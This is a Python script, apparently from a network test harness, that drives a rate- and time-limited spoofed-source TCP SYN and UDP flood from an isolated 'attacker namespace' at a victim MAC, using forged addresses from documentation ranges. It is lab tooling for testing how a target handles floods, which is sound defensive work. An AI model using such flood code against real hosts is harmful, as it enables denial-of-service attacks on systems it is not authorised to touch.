"""Spoofed-source flood, run inside the attacker namespace (``ip netns exec``).

One crafted probe (TCP SYN, every 4th a UDP datagram) per distinct forged
source address: COUNT4 from 198.18.0.0/15, COUNT6 from 2001:db8::/32, sent
only to the victim's MAC.  Bounded in count and in time (--max-seconds),
and paced to --rate packets per second.  Prints one JSON line of totals.
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from netio import Injector, flood_packets


def _ports(text: str) -> list[int]:
    return [int(p) for p in text.split(",") if p]


def main() -> int:
    """Send the flood; print {sent, seconds}."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--mac", required=True, help="the victim's MAC address")
    parser.add_argument("--dst4", required=True)
    parser.add_argument("--dst6", required=True)
    parser.add_argument("--count4", type=int, default=100_000)
    parser.add_argument("--count6", type=int, default=50_000)
    parser.add_argument("--tcp-ports", type=_ports, required=True)
    parser.add_argument("--udp-ports", type=_ports, default=[])
    parser.add_argument("--rate", type=float, default=20_000.0, help="packets per second (upper bound)")
    parser.add_argument("--max-seconds", type=float, default=60.0)
    parser.add_argument("--ifname", default="eth0", help="the attacker namespace's link to the victim")
    parser.add_argument("--offset", type=int, default=0, help="index of the first forged source")
    args = parser.parse_args()
    injector = Injector(None, args.mac, args.ifname)
    start = time.monotonic()
    sent = 0
    for ethertype, data in flood_packets(args.count4, args.count6, args.dst4, args.dst6,
                                         args.tcp_ports, args.udp_ports, offset=args.offset):
        now = time.monotonic()
        if now - start > args.max_seconds:
            break
        ahead = sent / args.rate - (now - start)
        if ahead > 0.001:
            time.sleep(ahead)
        try:
            injector.send(ethertype, data)
        except BlockingIOError:
            continue
        sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
